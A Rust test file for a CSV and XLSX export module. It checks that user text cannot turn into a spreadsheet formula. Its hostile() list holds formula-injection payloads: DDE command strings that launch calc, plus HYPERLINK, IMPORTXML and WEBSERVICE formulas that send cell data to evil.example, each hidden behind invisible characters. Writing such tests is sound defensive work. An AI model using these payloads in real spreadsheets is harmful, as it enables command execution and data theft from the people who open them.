use calamine::{Data, Reader, Xlsx};
use futures::{StreamExt, stream};

use super::*;

pub fn sheet(locale: Locale) -> Sheet {
    Sheet {
        file: "list",
        name: "List",
        title: "=A list".into(),
        columns: vec![Column::new("=Objet", 20), Column::new("Montant", 12)],
        locale,
        today: Day::of(2026, 1, 5).unwrap(),
        now: Instant(1_767_603_600_000),
    }
}

/// What has been tried against spreadsheets, each behind what a careless check passes over.
fn hostile() -> Vec<String> {
    const FRONTS: [&str; 20] = [
        "",
        " ",
        "\t",
        "\r",
        "\n",
        "\r\n",
        "\u{a0}",
        "\u{202f}",
        "\u{feff}",
        "\u{200b}",
        "\u{2060}",
        "\u{202e}",
        "\u{1}",
        "\u{b}",
        "  \t",
        "\u{3000}",
        "\u{85}",
        "\u{2028}",
        "\u{feff} ",
        "\n\n",
    ];
    const ACTS: [&str; 26] = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1;1)",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
        "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "=WEBSERVICE(\"http://evil.example\")",
        "=1+1\";=2",
        "=\"a\"\"b\"",
        "+33 1 02 03 04 05",
        "-",
        "=",
        "+",
        "@",
        "@a",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "=1\r\n=2",
        "=1;=2,=3\t=4",
        "=_xlfn.X()",
    ];
    let all: Vec<String> = FRONTS.iter().flat_map(|front| ACTS.map(|act| format!("{front}{act}"))).collect();
    assert!(all.len() >= 500);
    all
}

#[test]
fn no_text_of_a_csv_is_a_formula() {
    for locale in Locale::ALL {
        let separator = if locale == Locale::Fr { b';' } else { b',' };
        for text in hostile() {
            let written = super::csv::written(&[vec![Cell::Whole(1), Cell::text(text.clone())]], locale).unwrap();
            let mut reader =
                ::csv::ReaderBuilder::new().has_headers(false).delimiter(separator).from_reader(&written[..]);
            let records: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
            assert_eq!((records.len(), records[0].len()), (1, 2), "{text:?} breaks out of its cell");
            assert_eq!(&records[0][1], format!("'{text}"), "{text:?}");
        }
    }
}

#[test]
fn what_is_no_formula_stays_as_it_is() {
    for text in ["Acme", "a=b", "1+1", "a-b", "ana@diaz.example", "'=1", "  Acme", "Été", "(=1)"] {
        let written = super::csv::written(&[vec![Cell::text(text)]], Locale::En).unwrap();
        assert_eq!(String::from_utf8(written).unwrap(), format!("{text}\r\n"));
    }
}

fn read(bytes: Vec<u8>) -> Xlsx<std::io::Cursor<Vec<u8>>> {
    calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap()
}

#[test]
fn no_text_of_an_xlsx_is_a_formula() {
    let mut book = super::xlsx::Book::new(&sheet(Locale::Fr)).unwrap();
    let mut texts = hostile();
    // Marks that are XML's own, or the library's, are text too.
    texts.extend(
        ["<r><t>x</t></r>", "</t></is></c><c><f>1+1</f></c>", "&lt;", "_x003D_1+1", "]]>", "<!--"].map(str::to_owned),
    );
    for page in texts.chunks(100) {
        book.write(&page.iter().map(|text| vec![Cell::text(text.clone()), Cell::Whole(1)]).collect::<Vec<_>>())
            .unwrap();
    }
    let mut book = read(book.finish().unwrap());
    assert_eq!(book.worksheet_formula("List").unwrap().used_cells().count(), 0);
    let range = book.worksheet_range("List").unwrap();
    assert_eq!(range.height(), texts.len() + 1);
    assert_eq!(range.get((0, 0)), Some(&Data::String("=Objet".into())));
    for (row, text) in (1..).zip(&texts) {
        let Some(Data::String(stored)) = range.get((row, 0)) else { panic!("{text:?} is no text") };
        // Whoever reads XML takes all ends of lines for one.
        let plain = |text: &str| text.replace("\r\n", "\n").replace('\r', "\n");
        assert_eq!(plain(stored), plain(text));
        assert_eq!(range.get((row, 1)), Some(&Data::Float(1.0)));
    }
}

#[tokio::test]
async fn an_xlsx_has_typed_cells() {
    let day = Day::of(2026, 1, 5).unwrap();
    let row = vec![
        Cell::text("Acme"),
        Cell::Whole(-12),
        Cell::Money(Money::new(123_456, Currency::EUR)),
        Cell::Percent(Decimal::new(333, 1)),
        Cell::Day(day),
        Cell::Days(Decimal::new(35, 1)),
        Cell::text(""),
        Cell::text("x".repeat(40_000)),
        Cell::Weighted(Weighted(3_086_250), Currency::EUR),
    ];
    let pages = stream::iter([Ok(vec![row.clone()]), Ok(vec![]), Ok(vec![row])]).boxed();
    let answer = file(Format::Xlsx, sheet(Locale::En), pages).await.unwrap();
    assert_eq!(answer.headers()["content-disposition"], "attachment; filename=\"list-2026-01-05.xlsx\"");
    assert_eq!(answer.headers()["cache-control"], "private, no-store");
    let bytes = axum::body::to_bytes(answer.into_body(), 1 << 20).await.unwrap();
    let range = read(bytes.to_vec()).worksheet_range("List").unwrap();
    assert_eq!(range.height(), 3);
    for row in 1..3 {
        let number = |column: u32| match range.get((row, column as usize)) {
            Some(Data::Float(number)) => *number,
            Some(Data::DateTime(date)) => date.as_f64(),
            other => panic!("{other:?}"),
        };
        assert_eq!(range.get((row, 0)), Some(&Data::String("Acme".into())));
        assert_eq!((number(1), number(2), number(5), number(8)), (-12.0, 1234.56, 3.5, 308.625));
        assert!((number(3) - 0.333).abs() < 1e-9);
        // Day 46 027 since the end of 1899.
        assert!(matches!(range.get((row, 4)), Some(Data::DateTime(date)) if date.as_f64() == 46_027.0));
        assert_eq!(range.get((row, 6)), Some(&Data::Empty));
        assert!(matches!(range.get((row, 7)), Some(Data::String(text)) if text.len() == 32_767));
    }
}

#[tokio::test]
async fn what_fails_at_once_is_told_and_what_fails_later_breaks_off() {
    for format in Format::ALL {
        let none = stream::iter([Err(Error::NotFound)]).boxed();
        assert_eq!(file(format, sheet(Locale::En), none).await.err(), Some(Error::NotFound));
    }
    let late = || stream::iter([Ok(vec![vec![Cell::Whole(1)]]), Err(Error::NotFound)]).boxed();
    let csv = file(Format::Csv, sheet(Locale::En), late()).await.unwrap();
    assert!(axum::body::to_bytes(csv.into_body(), 1 << 20).await.is_err());
    assert_eq!(file(Format::Xlsx, sheet(Locale::En), late()).await.err(), Some(Error::NotFound));
}
